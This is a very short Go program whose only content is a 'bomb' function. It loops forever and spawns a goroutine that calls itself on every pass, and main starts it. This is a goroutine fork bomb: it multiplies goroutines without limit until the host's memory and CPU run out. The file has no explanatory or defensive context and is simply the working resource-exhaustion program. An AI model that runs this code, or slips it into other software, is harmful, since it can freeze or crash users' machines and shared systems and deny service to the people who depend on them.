package main

func bomb() {
	for {
		go bomb()
	}
}

func main() {
	bomb()
}
